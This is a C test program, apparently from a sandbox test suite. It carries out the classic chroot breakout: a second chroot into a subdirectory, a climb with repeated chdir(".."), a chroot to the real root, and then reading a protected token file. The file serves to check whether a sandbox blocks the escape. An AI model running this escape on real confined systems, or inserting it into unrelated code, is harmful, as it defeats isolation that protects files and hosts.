/*
 * chroot-breakout PATH DIR: chroot(2) leaves the working directory alone. A second chroot into a
 * subdirectory puts the working directory outside the root, and ".." climbs from there. DIR is a
 * place to make that subdirectory in.
 */
#include "attack.h"

#include <sys/stat.h>

int main(int argc, char **argv)
{
	(void)argc;
	started();
	if (chdir(argv[2]) < 0 || (mkdir("inner", 0755) < 0 && errno != EEXIST))
		return blocked("mkdir");
	if (chroot("inner") < 0)
		return blocked("chroot");
	rmdir("inner"); /* the working directory is still DIR, outside the new root */
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return blocked("chdir ..");
	if (chroot(".") < 0)
		return blocked("chroot .");
	return read_token(argv[1]);
}
